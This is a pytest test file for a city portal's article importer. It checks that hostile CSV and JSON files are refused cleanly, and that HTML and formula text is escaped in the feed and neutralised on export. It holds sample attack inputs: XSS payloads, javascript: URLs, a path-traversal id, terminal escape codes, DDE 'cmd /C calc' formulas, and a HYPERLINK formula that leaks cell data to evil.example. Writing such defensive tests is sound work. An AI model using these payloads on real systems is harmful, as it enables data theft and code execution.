"""Hostile article files, imported by city staff with `portal-marketplace articles import FILE`.

Each case says what it breaks. Every refused case then checks: exit code 2, "nothing was
imported", the error names the file, the row and the column (`row 0` is the file or its CSV
header; `column -` is a whole row or the whole file), and no table of the database gained or
lost a row. The CLI runs for real (typer's CliRunner) against a freshly migrated SQLite file.

Values that are accepted as text (HTML, spreadsheet formulas) are followed to where they leave
the system: the feed fragment escapes them, and the one export path neutralises formulas.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import tracemalloc
from collections.abc import Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from sqlalchemy import func, inspect, select, table
from sqlalchemy.orm import Session
from starlette.testclient import TestClient
from typer.testing import CliRunner, Result

from analytics.export import ReportTable, to_csv
from marketplace.articles.importer import CSV_COLUMNS, MAX_FILE_BYTES, MAX_ROWS
from marketplace.db import make_engine
from marketplace.models import Article
from portal_plugin.app import create_app
from portal_plugin.cli.main import app
from portal_plugin.migrate import upgrade
from tests.support.cli import point_cli_at
from tests.support.settings import make_settings

runner = CliRunner()
TOKYO = ZoneInfo("Asia/Tokyo")
GOOD: dict[str, str] = {
    "id": "a-1",
    "title": "除雪車の出動状況",
    "summary": "今朝の除雪作業の予定です。",
    "url": "https://www.city.aizuwakamatsu.fukushima.jp/snow/1",
    "category": "除雪",
    "tags": "除雪|冬",
    "priority": "normal",
    "published_at": "2026-01-10T09:00:00+09:00",
    "expires_at": "",
}
GOOD_JSON: dict[str, Any] = {
    "id": "j-1",
    "title": "防災訓練のお知らせ",
    "url": "https://www.city.aizuwakamatsu.fukushima.jp/bousai/1",
    "category": "防災",
    "tags": ["防災"],
    "published_at": "2026-11-01T09:00:00+09:00",
}


def csv_file(*rows: Mapping[str, str], columns: tuple[str, ...] = CSV_COLUMNS) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(column, "") for column in columns])
    return buffer.getvalue().encode("utf-8")


def csv_with(**overrides: str) -> bytes:
    return csv_file({**GOOD, **overrides})


def json_file(*records: Any) -> bytes:
    return json.dumps(list(records), ensure_ascii=False).encode("utf-8")


def json_with(**overrides: Any) -> bytes:
    return json_file({**GOOD_JSON, **overrides})


HEADER = ",".join(CSV_COLUMNS) + "\r\n"
ROW_1 = csv_file(GOOD).decode().removeprefix(HEADER)
ROW_2 = csv_file({**GOOD, "id": "a-2"}).decode().removeprefix(HEADER)


@pytest.fixture(scope="module")
def migrated_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("articles-template") / "template.db"
    upgrade(f"sqlite:///{path}")
    return path


@pytest.fixture
def database_url(migrated_template: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """A throwaway copy of the migrated database, with the CLI's settings pointing at it."""
    path = tmp_path / "cli.db"
    shutil.copyfile(migrated_template, path)
    return point_cli_at(monkeypatch, tmp_path, f"sqlite:///{path}")


def row_counts(url: str) -> dict[str, int]:
    """Every table's row count: the whole database, not only `articles`."""
    engine = make_engine(url)
    try:
        with engine.connect() as connection:
            return {
                name: int(connection.scalar(select(func.count()).select_from(table(name))) or 0)
                for name in inspect(connection).get_table_names()
            }
    finally:
        engine.dispose()


def stored_articles(url: str) -> list[Article]:
    engine = make_engine(url)
    try:
        with Session(engine, expire_on_commit=False) as session:
            return list(session.scalars(select(Article).order_by(Article.external_id)))
    finally:
        engine.dispose()


def import_file(directory: Path, name: str, data: bytes) -> Result:
    path = directory / name
    path.write_bytes(data)
    return runner.invoke(app, ["articles", "import", str(path)])


def assert_refused(result: Result, where: str, says: str) -> None:
    assert result.exit_code == 2, (result.exit_code, result.output, result.exception)
    assert "nothing was imported" in result.output, result.output
    assert f"error: {where}" in result.output, result.output
    line = next(line for line in result.output.splitlines() if where in line)
    assert says in line, line


def assert_imported(result: Result, count: int) -> None:
    assert result.exit_code == 0, (result.output, result.exception)
    assert f"imported {count} articles" in result.output, result.output


CASES: list[tuple[str, str, bytes, str, str]] = [
    # (what it breaks, file name, bytes, "file: row N, column C:", text the message must hold)
    # --- encoding and empty files
    (
        "Shift_JIS bytes, not UTF-8 (CSV)",
        "sjis.csv",
        csv_file(GOOD).decode().encode("shift_jis"),
        "sjis.csv: row 0, column -:",
        "not UTF-8 (first bad byte on line 2)",
    ),
    (
        "Shift_JIS bytes, not UTF-8 (JSON)",
        "sjis.json",
        json_file(GOOD_JSON).decode().encode("shift_jis"),
        "sjis.json: row 0, column -:",
        "not UTF-8",
    ),
    (
        "a NUL byte in the title (CSV)",
        "nul.csv",
        csv_with(title="除雪\x00車"),
        "nul.csv: row 1, column title:",
        "制御文字",
    ),
    (
        "a NUL byte in the summary, escaped in JSON",
        "nul.json",
        json_with(summary="要約\u0000です"),
        "nul.json: row 1, column summary:",
        "制御文字",
    ),
    (
        "a raw NUL byte inside a JSON string",
        "rawnul.json",
        json_with(title="TITLE").replace(b"TITLE", b"TI\x00TLE"),
        "rawnul.json: row 0, column -:",
        "invalid JSON at line 1",
    ),
    (
        "a NUL byte in the id",
        "nulid.csv",
        csv_with(id="a\x001"),
        "nulid.csv: row 1, column id:",
        "invalid id",
    ),
    (
        "a NUL byte in the url",
        "nulurl.csv",
        csv_with(url="https://exa\x00mple.jp/"),
        "nulurl.csv: row 1, column url:",
        "制御文字",
    ),
    ("an empty CSV file", "empty.csv", b"", "empty.csv: row 0, column -:", "file is empty"),
    ("an empty JSON file", "empty.json", b"", "empty.json: row 0, column -:", "file is empty"),
    (
        "only blank lines",
        "blank.csv",
        b"\r\n\r\n \r\n",
        "blank.csv: row 0, column -:",
        "file is empty",
    ),
    ("only a header", "header.csv", HEADER.encode(), "header.csv: row 0, column -:", "no articles"),
    ("an empty JSON array", "none.json", b"[]", "none.json: row 0, column -:", "no articles"),
    (
        "an empty articles object",
        "none2.json",
        b'{"articles": []}',
        "none2.json: row 0, column -:",
        "no articles",
    ),
    # --- columns and rows
    (
        "required columns missing",
        "missing.csv",
        csv_file(GOOD, columns=("id", "title", "category", "published_at")),
        "missing.csv: row 0, column url:",
        "required column is missing",
    ),
    (
        "an unknown extra column",
        "extra.csv",
        csv_file({**GOOD, "author": "x"}, columns=(*CSV_COLUMNS, "author")),
        "extra.csv: row 0, column author:",
        "unknown column",
    ),
    (
        "an unknown extra key (JSON)",
        "extra.json",
        json_with(author="x"),
        "extra.json: row 1, column author:",
        "Extra inputs are not permitted",
    ),
    (
        "the title column twice (csv keeps the last value silently)",
        "dupcol.csv",
        (HEADER.replace("summary", "title") + ROW_1).encode(),
        "dupcol.csv: row 0, column title:",
        "column appears more than once",
    ),
    (
        "the title key twice in one object (json keeps the last value silently)",
        "dupkey.json",
        b'[{"id": "j-1", "title": "a", "title": "b", "url": "https://example.jp/",'
        b' "category": "\xe9\x98\xb2\xe7\x81\xbd", "published_at": "2026-11-01T09:00:00+09:00"}]',
        "dupkey.json: row 1, column title:",
        "key appears more than once",
    ),
    (
        "the same article id twice",
        "dupid.csv",
        (HEADER + ROW_1 + ROW_2 + ROW_1).encode(),
        "dupid.csv: row 3, column id:",
        "duplicate id 'a-1' (also row 1)",
    ),
    (
        "the same article id twice (JSON)",
        "dupid.json",
        json_file(GOOD_JSON, GOOD_JSON),
        "dupid.json: row 2, column id:",
        "duplicate id 'j-1' (also row 1)",
    ),
    (
        "a row with too many values",
        "long.csv",
        (HEADER + ROW_1 + ROW_2.replace("\r\n", ",extra\r\n")).encode(),
        "long.csv: row 2, column -:",
        "more values than columns (10 for 9)",
    ),
    (
        "a row with too few values",
        "short.csv",
        (HEADER + ROW_1 + "a-2,題名,要約,https://example.jp/,防災\r\n").encode(),
        "short.csv: row 2, column -:",
        "fewer values than columns (5 for 9)",
    ),
    (
        "an unterminated quoted field swallowing the rest of the file",
        "quote.csv",
        (
            HEADER
            + ROW_1
            + 'a-2,"題名,要約,https://example.jp/,防災,,,2026-01-10T09:00:00+09:00,\r\n'
            + ROW_1
        ).encode(),
        "quote.csv: row 2, column -:",
        "a quoted value is not closed",
    ),
    (
        "text after a closing quote",
        "afterquote.csv",
        (
            HEADER + '"a-2"x,題名,,https://example.jp/,防災,,,2026-01-10T09:00:00+09:00,\r\n'
        ).encode(),
        "afterquote.csv: row 1, column -:",
        "cannot read as CSV",
    ),
    (
        "an unterminated quote in the header",
        "quotehead.csv",
        ('id,"title\r\n' + ROW_1).encode(),
        "quotehead.csv: row 0, column -:",
        "cannot read the header as CSV",
    ),
    # --- oversized values
    (
        "a 201-character title",
        "title.csv",
        csv_with(title="あ" * 201),
        "title.csv: row 1, column title:",
        "at most 200 characters",
    ),
    (
        "a 2,001-character summary",
        "summary.json",
        json_with(summary="い" * 2001),
        "summary.json: row 1, column summary:",
        "at most 2000 characters",
    ),
    (
        "a 501-character url",
        "url.csv",
        csv_with(url="https://example.jp/" + "a" * 482),
        "url.csv: row 1, column url:",
        "at most 500 characters",
    ),
    (
        "21 tags",
        "tags.csv",
        csv_with(tags="|".join(f"t{i}" for i in range(21))),
        "tags.csv: row 1, column tags:",
        "at most 20 items",
    ),
    (
        "one 200 kB field (over csv's own field limit)",
        "field.csv",
        (
            HEADER
            + ROW_1
            + 'a-2,"'
            + "x" * 200_000
            + '",,https://example.jp/,防災,,,2026-01-10T09:00:00+09:00,\r\n'
        ).encode(),
        "field.csv: row 2, column -:",
        "field larger than field limit",
    ),
    (
        "a 1 MB title in JSON (no field limit there)",
        "bigtitle.json",
        json_with(title="x" * 1_000_000),
        "bigtitle.json: row 1, column title:",
        "at most 200 characters",
    ),
    # --- JSON shape and types
    (
        "an object, not an array",
        "object.json",
        json.dumps(GOOD_JSON).encode(),
        "object.json: row 0, column -:",
        "expected a list of article objects",
    ),
    (
        "a bare string",
        "string.json",
        b'"articles"',
        "string.json: row 0, column -:",
        "expected a list of article objects",
    ),
    (
        "not JSON at all",
        "broken.json",
        b"[{",
        "broken.json: row 0, column -:",
        "invalid JSON at line 1, column 3",
    ),
    (
        "array items that are not objects",
        "items.json",
        json_file(GOOD_JSON, ["x"], 7),
        "items.json: row 2, column -:",
        "expected an article object",
    ),
    (
        "100,000 levels of [ (RecursionError in json)",
        "deep.json",
        b"[" * 100_000,
        "deep.json: row 0, column -:",
        "nested too deeply",
    ),
    (
        "100,000 levels of [ closed again",
        "deep2.json",
        b"[" * 100_000 + b"]" * 100_000,
        "deep2.json: row 0, column -:",
        "nested too deeply",
    ),
    (
        '100,000 levels of {"a":',
        "deep3.json",
        b'{"a":' * 100_000,
        "deep3.json: row 0, column -:",
        "nested too deeply",
    ),
    (
        "a nested array where the title goes",
        "nested.json",
        json_with(title=[[[["x"]]]]),
        "nested.json: row 1, column title:",
        "valid string",
    ),
    (
        "a number as the title",
        "numtitle.json",
        json_with(title=12),
        "numtitle.json: row 1, column title:",
        "valid string",
    ),
    (
        "a number as the id (was stored as '12')",
        "numid.json",
        json_with(id=12),
        "numid.json: row 1, column id:",
        "id must be a string",
    ),
    (
        "true as the id (was stored as 'True')",
        "boolid.json",
        json_with(id=True),
        "boolid.json: row 1, column id:",
        "id must be a string",
    ),
    (
        "null as the id",
        "nullid.json",
        json_with(id=None),
        "nullid.json: row 1, column id:",
        "id is missing",
    ),
    (
        "tags as one string",
        "tagstr.json",
        json_with(tags="a|b"),
        "tagstr.json: row 1, column tags:",
        "valid list",
    ),
    (
        "a number as a tag",
        "tagnum.json",
        json_with(tags=["ok", 3]),
        "tagnum.json: row 1, column tags.1:",
        "valid string",
    ),
    (
        "a number as the priority",
        "prionum.json",
        json_with(priority=1),
        "prionum.json: row 1, column priority:",
        "'normal', 'important' or 'urgent'",
    ),
    (
        "Unix seconds as published_at (was read as a UTC time)",
        "epoch.json",
        json_with(published_at=1_767_225_600),
        "epoch.json: row 1, column published_at:",
        "日時は文字列で",
    ),
    (
        "a 5,000-digit integer (over int()'s 4,300-digit limit: ValueError in json)",
        "hugeint.json",
        json_with(title="TITLE").replace(b'"TITLE"', b"9" * 5000),
        "hugeint.json: row 1, column title:",
        "valid string",
    ),
    (
        "a 5,000-digit integer as the id",
        "hugeid.json",
        json_with(id="ID").replace(b'"ID"', b"1" * 5000),
        "hugeid.json: row 1, column id:",
        "id must be a string",
    ),
    (
        "1e999 (infinity) as the summary",
        "inf.json",
        json_with(summary="S").replace(b'"S"', b"1e999"),
        "inf.json: row 1, column summary:",
        "valid string",
    ),
    # --- hostile URLs
    (
        "javascript: url",
        "js.csv",
        csv_with(url="javascript:alert(1)"),
        "js.csv: row 1, column url:",
        "http(s)://",
    ),
    (
        "JaVaScRiPt: url",
        "js2.json",
        json_with(url="JaVaScRiPt:alert(1)"),
        "js2.json: row 1, column url:",
        "http(s)://",
    ),
    (
        "javascript: after a space",
        "js3.csv",
        csv_with(url=" javascript:alert(1)"),
        "js3.csv: row 1, column url:",
        "http(s)://",
    ),
    (
        "data: url",
        "data.csv",
        csv_with(url="data:text/html,<script>alert(1)</script>"),
        "data.csv: row 1, column url:",
        "http(s)://",
    ),
    (
        "protocol-relative url",
        "rel.csv",
        csv_with(url="//evil.example/x"),
        "rel.csv: row 1, column url:",
        "http(s)://",
    ),
    (
        "a relative path",
        "path.json",
        json_with(url="/snow/1"),
        "path.json: row 1, column url:",
        "http(s)://",
    ),
    (
        "backslashes for slashes",
        "bs.csv",
        csv_with(url="https:\\\\evil.example/"),
        "bs.csv: row 1, column url:",
        "バックスラッシュ",
    ),
    (
        "a tab inside the host (urlsplit drops it silently)",
        "tab.json",
        json_with(url="https://exa\tmple.jp/"),
        "tab.json: row 1, column url:",
        "制御文字",
    ),
    (
        "ftp url",
        "ftp.csv",
        csv_with(url="ftp://example.jp/a"),
        "ftp.csv: row 1, column url:",
        "http(s)://",
    ),
    # --- vocabularies
    (
        "unknown category",
        "cat.csv",
        csv_with(category="宇宙"),
        "cat.csv: row 1, column category:",
        "未知のカテゴリです: '宇宙'",
    ),
    (
        "console markup as the category (crashed rich's printer)",
        "markup.csv",
        csv_with(category="[/red][bold]x"),
        "markup.csv: row 1, column category:",
        "'[/red][bold]x'",
    ),
    (
        "missing category",
        "nocat.json",
        json_with(category=None),
        "nocat.json: row 1, column category:",
        "valid string",
    ),
    (
        "unknown priority",
        "prio.csv",
        csv_with(priority="URGENT!!"),
        "prio.csv: row 1, column priority:",
        "'normal', 'important' or 'urgent'",
    ),
    # --- dates and time zones (days are Asia/Tokyo)
    (
        "30 February",
        "feb30.csv",
        csv_with(published_at="2026-02-30T09:00:00+09:00"),
        "feb30.csv: row 1, column published_at:",
        "day value is outside expected range",
    ),
    (
        "month 13",
        "month13.json",
        json_with(published_at="2026-13-01T09:00:00+09:00"),
        "month13.json: row 1, column published_at:",
        "month value is outside expected range",
    ),
    (
        "a word for a date",
        "word.csv",
        csv_with(published_at="yesterday"),
        "word.csv: row 1, column published_at:",
        "valid datetime",
    ),
    (
        "expires_at before published_at",
        "order.csv",
        csv_with(expires_at="2026-01-09T09:00:00+09:00"),
        "order.csv: row 1, column expires_at:",
        "expires_at は published_at より後",
    ),
    (
        "expires_at equal to published_at",
        "equal.json",
        json_with(expires_at=GOOD_JSON["published_at"]),
        "equal.json: row 1, column expires_at:",
        "expires_at は published_at より後",
    ),
    (
        "a time without a time zone (Tokyo or UTC? nine hours apart)",
        "naive.csv",
        csv_with(published_at="2026-01-10T09:00:00"),
        "naive.csv: row 1, column published_at:",
        "タイムゾーン付き",
    ),
    (
        "a date without a time or zone",
        "dateonly.json",
        json_with(published_at="2026-01-10"),
        "dateonly.json: row 1, column published_at:",
        "タイムゾーン付き",
    ),
    (
        "a naive expires_at",
        "naiveexp.csv",
        csv_with(expires_at="2026-02-10T09:00:00"),
        "naiveexp.csv: row 1, column expires_at:",
        "タイムゾーン付き",
    ),
    (
        "year 1 in Tokyo, before UTC's year 1 (OverflowError when stored)",
        "year1.csv",
        csv_with(published_at="0001-01-01T00:00:00+09:00"),
        "year1.csv: row 1, column published_at:",
        "範囲外",
    ),
    # --- everything else
    (
        "a bad id",
        "badid.csv",
        csv_with(id="../../etc/passwd"),
        "badid.csv: row 1, column id:",
        "invalid id '../../etc/passwd'",
    ),
    ("a missing id", "noid.csv", csv_with(id=""), "noid.csv: row 1, column id:", "id is missing"),
    (
        "a .txt file",
        "articles.txt",
        csv_file(GOOD),
        "articles.txt: row 0, column -:",
        "use a .json or .csv file",
    ),
    (
        "a valid row after a bad one",
        "bad-then-good.csv",
        (HEADER + csv_with(category="宇宙").decode().removeprefix(HEADER) + ROW_2).encode(),
        "bad-then-good.csv: row 1, column category:",
        "未知のカテゴリです",
    ),
]


@pytest.mark.parametrize(
    ("label", "name", "data", "where", "says"), CASES, ids=[case[0] for case in CASES]
)
def test_hostile_file_is_refused_naming_the_place_and_writes_nothing(
    database_url: str, tmp_path: Path, label: str, name: str, data: bytes, where: str, says: str
) -> None:
    before = row_counts(database_url)
    result = import_file(tmp_path, name, data)
    assert_refused(result, where, says)
    assert "\x1b" not in result.output and "\x00" not in result.output, label
    assert row_counts(database_url) == before, f"{label}: something was written"


def test_terminal_escapes_from_the_file_are_not_echoed(database_url: str, tmp_path: Path) -> None:
    """Broke: an ANSI escape in the category and in a JSON key (it would recolour or rewrite the
    operator's terminal). Checked: refused at its row and column, shown as `\\x1b`, never raw."""
    data = json_with(category="\x1b[2J\x1b[31m防災", **{"\x1b[31mkey": "x"})
    before = row_counts(database_url)
    result = import_file(tmp_path, "ansi.json", data)
    assert_refused(result, "ansi.json: row 1, column category:", "\\x1b[2J")
    assert "ansi.json: row 1, column '\\x1b[31mkey':" in result.output
    assert "\x1b" not in result.output
    assert row_counts(database_url) == before


def test_problems_beyond_fifty_are_counted_not_printed(database_url: str, tmp_path: Path) -> None:
    """Broke: 500 bad rows. Checked: 50 errors shown, the rest counted, nothing written."""
    rows = [{**GOOD, "id": f"a-{i}", "category": "宇宙"} for i in range(500)]
    before = row_counts(database_url)
    result = import_file(tmp_path, "many.csv", csv_file(*rows))
    assert_refused(result, "many.csv: row 1, column category:", "宇宙")
    assert result.output.count("error: many.csv:") == 50
    assert "… and 450 more problems" in result.output
    assert row_counts(database_url) == before


@pytest.mark.parametrize("suffix", ["csv", "json"])
def test_more_rows_than_max_rows_is_refused_before_validation(
    database_url: str, tmp_path: Path, suffix: str
) -> None:
    """Broke: MAX_ROWS + 1 rows (empty ones, so that the test itself stays small). Checked:
    refused at row MAX_ROWS + 1 without validating a row (no per-row errors), nothing written."""
    count = MAX_ROWS + 1
    if suffix == "csv":
        data = (HEADER + ",,,,,,,,\r\n" * count).encode()
    else:
        data = b"[" + b",".join([b"{}"] * count) + b"]"
    before = row_counts(database_url)
    result = import_file(tmp_path, f"rows.{suffix}", data)
    assert_refused(result, f"rows.{suffix}: row {count}, column -:", f"more than {MAX_ROWS} rows")
    assert result.output.count("error:") == 1
    assert row_counts(database_url) == before


@pytest.mark.parametrize("suffix", ["csv", "json"])
def test_file_over_the_size_limit_is_refused_without_reading_it(
    database_url: str, tmp_path: Path, suffix: str
) -> None:
    """Broke: a file one byte over MAX_FILE_BYTES (64 MB; a real export of the city's 2,000
    articles is about 1 MB), made sparse so the test costs no disk. Checked: refused by its
    size with a clear message, the import's peak memory stays far below the file's size (it was
    not read), nothing written."""
    path = tmp_path / f"huge.{suffix}"
    with path.open("wb") as handle:
        handle.write(HEADER.encode() if suffix == "csv" else b"[")
        handle.truncate(MAX_FILE_BYTES + 1)
    before = row_counts(database_url)
    tracemalloc.start()
    try:
        result = runner.invoke(app, ["articles", "import", str(path)])
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert_refused(result, f"huge.{suffix}: row 0, column -:", "file is larger than 64 MB")
    assert peak < MAX_FILE_BYTES // 8, f"peak {peak:,} bytes: the file was read"
    assert row_counts(database_url) == before


def test_utf8_with_bom_is_accepted(database_url: str, tmp_path: Path) -> None:
    """Broke: Excel's "CSV UTF-8" (a byte-order mark before the header), and a BOM before a
    JSON array. Checked: both import; the first column is `id`, not `\\ufeffid`."""
    assert_imported(import_file(tmp_path, "bom.csv", b"\xef\xbb\xbf" + csv_file(GOOD)), 1)
    assert_imported(import_file(tmp_path, "bom.json", b"\xef\xbb\xbf" + json_file(GOOD_JSON)), 1)
    assert [a.external_id for a in stored_articles(database_url)] == ["a-1", "j-1"]


def test_aware_times_in_any_offset_are_the_same_tokyo_day(
    database_url: str, tmp_path: Path
) -> None:
    """Broke: the same instant written as +09:00, Z and -05:00. Checked: all three import and
    are stored as one instant, 09:00 on 10 January in Tokyo (00:00 UTC)."""
    rows = [
        {**GOOD, "id": "plus9", "published_at": "2026-01-10T09:00:00+09:00"},
        {**GOOD, "id": "zulu", "published_at": "2026-01-10T00:00:00Z"},
        {**GOOD, "id": "minus5", "published_at": "2026-01-09T19:00:00-05:00"},
    ]
    assert_imported(import_file(tmp_path, "zones.csv", csv_file(*rows)), 3)
    stored = stored_articles(database_url)
    assert {a.published_at for a in stored} == {datetime(2026, 1, 10, tzinfo=UTC)}
    assert {a.published_at.astimezone(TOKYO).isoformat() for a in stored} == {
        "2026-01-10T09:00:00+09:00"
    }


def test_refused_file_writes_nothing_then_a_valid_file_imports(
    database_url: str, tmp_path: Path
) -> None:
    """Broke: a file of 2 good rows and 1 bad one (the bad one last). Checked: refused, not even
    the good rows are stored; then the corrected file imports all three, and importing it
    again updates them instead of adding more."""
    good = [{**GOOD, "id": f"a-{i}"} for i in range(1, 4)]
    bad = [*good[:2], {**good[2], "published_at": "2026-02-30T09:00:00+09:00"}]
    before = row_counts(database_url)
    assert_refused(
        import_file(tmp_path, "articles.csv", csv_file(*bad)),
        "articles.csv: row 3, column published_at:",
        "day value",
    )
    assert row_counts(database_url) == before
    done = import_file(tmp_path, "articles.csv", csv_file(*good))
    assert_imported(done, 3)
    assert "3 new, 0 updated" in done.output
    again = import_file(tmp_path, "articles.csv", csv_file(*good))
    assert "0 new, 3 updated" in again.output
    after = row_counts(database_url)
    assert after["articles"] == before["articles"] + 3
    assert {k: v for k, v in after.items() if k != "articles"} == {
        k: v for k, v in before.items() if k != "articles"
    }


XSS_TITLE = '<script>alert("xss")</script>"><img src=x onerror=alert(1)>'
XSS_SUMMARY = "<svg onload=alert(2)>要約</svg>"
XSS_URL = 'https://www.city.aizuwakamatsu.fukushima.jp/a?q="><script>alert(3)</script>'


def test_html_in_title_summary_and_url_is_stored_as_text_and_escaped_in_the_feed(
    database_url: str, tmp_path: Path
) -> None:
    """Broke: `<script>`, an attribute break-out and `<svg onload>` in the title, summary and
    the URL's query. The schema's choice: store them as text (a city article may well mention
    `<` and `>`); so checked: imported verbatim, returned verbatim by the JSON API, and the
    HTML feed fragment shows them escaped with no live tag or injected attribute."""
    published = (datetime.now(UTC) - timedelta(hours=1)).isoformat()
    article = {**GOOD, "title": XSS_TITLE, "summary": XSS_SUMMARY, "url": XSS_URL}
    article["priority"] = "urgent"  # urgent notices are pinned, so it is surely in the feed
    article["published_at"] = published
    assert_imported(import_file(tmp_path, "xss.csv", csv_file(article)), 1)
    [stored] = stored_articles(database_url)
    assert (stored.title, stored.summary, stored.url) == (XSS_TITLE, XSS_SUMMARY, XSS_URL)

    settings = make_settings(
        database_url, model_store_dir=tmp_path / "models", delivery_spool_dir=tmp_path / "spool"
    )
    with TestClient(create_app(settings), base_url="https://testserver") as client:
        listed = client.get("/api/articles").json()["articles"]
        assert [(a["title"], a["summary"], a["url"]) for a in listed] == [
            (XSS_TITLE, XSS_SUMMARY, XSS_URL)
        ]
        html = client.get("/fragment/feed", headers={"accept": "text/html"}).text
    assert 'data-kind="article"' in html
    assert "&lt;script&gt;alert(" in html and "&lt;svg onload=alert(2)&gt;" in html
    assert 'href="https://www.city.aizuwakamatsu.fukushima.jp/a?q=&#34;&gt;&lt;script&gt;' in html
    # The fragment's own script (the ad cards' choices) is the one tag allowed to be live.
    own_script = '<script src="/static/resident-choices.js" defer></script>'
    assert html.count(own_script) <= 1
    without_own = html.replace(own_script, "")
    for live in ("<script", "<img", "<svg"):
        assert live not in without_own, live


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"詳しくはこちら")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_formula_text_is_stored_as_typed_and_neutralised_by_the_export(
    database_url: str, tmp_path: Path
) -> None:
    """Broke: spreadsheet formulas (`=HYPERLINK`, `+`, `-`, `@`) as titles and summaries.
    Checked: they are article text (a title may start with "-"), so they import verbatim.
    No page or command exports articles today (the analytics exports hold shops, bookings and
    money); every table that leaves the system goes through `analytics.export`, and fed these
    stored articles it writes each formula as text with a leading apostrophe."""
    rows = [
        {**GOOD, "id": f"f-{i}", "title": formula, "summary": formula}
        for i, formula in enumerate(FORMULAS)
    ]
    assert_imported(import_file(tmp_path, "formulas.csv", csv_file(*rows)), len(FORMULAS))
    stored = stored_articles(database_url)
    assert [a.title for a in stored] == FORMULAS
    frame = pd.DataFrame(
        {"id": [a.external_id for a in stored], "title": [a.title for a in stored]}
    )
    exported = to_csv(ReportTable("articles", "記事", frame)).decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(exported)))[1:]
    assert [title for _, title in cells] == ["'" + formula for formula in FORMULAS]
